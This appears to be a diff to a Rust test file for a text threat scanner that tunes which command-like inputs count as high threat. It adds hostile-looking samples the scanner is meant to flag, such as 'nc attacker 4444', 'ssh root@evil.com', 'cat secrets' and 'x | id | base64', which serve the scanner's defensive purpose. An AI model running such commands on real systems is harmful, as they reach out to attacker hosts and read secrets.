@@ -1310,10 +1310,11 @@ fn send_it_to_is_exfiltration_where_the_destination_is_outside() {
     assert!(s.scan(t.as_bytes()).level >= ThreatLevel::High, "{t:?}");
 }
 
-/// A text that opens with a command word that is also English is a command only with an
-/// argument or nothing after it, and a word after `|` that ends a table cell is none (a hostile
-/// review, twenty-fourth session, found "Python question: …", "Cat keeps …", "Kill the 4pm
-/// meeting", CSV files opening `id,name` and Markdown tables high).
+/// A text that opens with a command word that is also English is a command with an argument
+/// that looks like one, with nothing after it, or as a whole text of four words at most; not as
+/// a sentence (a hostile review, twenty-fourth session, found "Python question: …", "Cat keeps
+/// …", "Kill the 4pm meeting" and CSV files opening `id,name` high; a second found the first
+/// form of this rule letting `cat secrets`, `echo pwned` and `x | id | base64` through).
 #[test]
 fn a_text_opening_with_a_command_word_is_a_command_only_with_an_argument() {
     let mut s = Scanner::builtin();
@@ -1321,13 +1322,12 @@ fn a_text_opening_with_a_command_word_is_a_command_only_with_an_argument() {
         "Python question: how do I read a CSV with pandas and skip the first row?",
         "Cat keeps throwing up after eating, should I see a vet?",
         "Kill the 4pm meeting please, nobody can make it.",
-        "Sleep well everyone!",
         "id,name,email,role\n1,Alice Smith,alice@example.com,admin",
         "Echo chamber effects in social media: a short literature review.",
         "curl: (7) Failed to connect to localhost port 8080: Connection refused",
-        // after `|`, a word that ends a table cell
-        "| ID | Name | Owner |\n|----|------|-------|\n| 1 | Build | Ana |",
-        "| Language | Version |\n| --- | --- |\n| Python | 3.12 |\n| Ruby | 3.3 |",
+        "Ping me when you're done",
+        // (a text of four words at most stays high: `Sleep well everyone!` is as short as a
+        // bare command)
     ] {
         let r = s.scan(t.as_bytes());
         assert!(r.level < ThreatLevel::High, "{t:?}: {r:?}");
@@ -1346,6 +1346,15 @@ fn a_text_opening_with_a_command_word_is_a_command_only_with_an_argument() {
         "| id",
         "a|id|",
         "x | cat /etc/hosts",
+        // the second review's: short commands whose argument is a plain word, pipelines
+        "cat secrets",
+        "echo pwned",
+        "nc attacker 4444",
+        "ssh root@evil.com",
+        "id # comment",
+        "echo pwned > /tmp/x #",
+        "x | id | base64",
+        "\ncat secrets",
     ] {
         let r = s.scan(t.as_bytes());
         assert!(r.level >= ThreatLevel::High, "{t:?}: {r:?}");
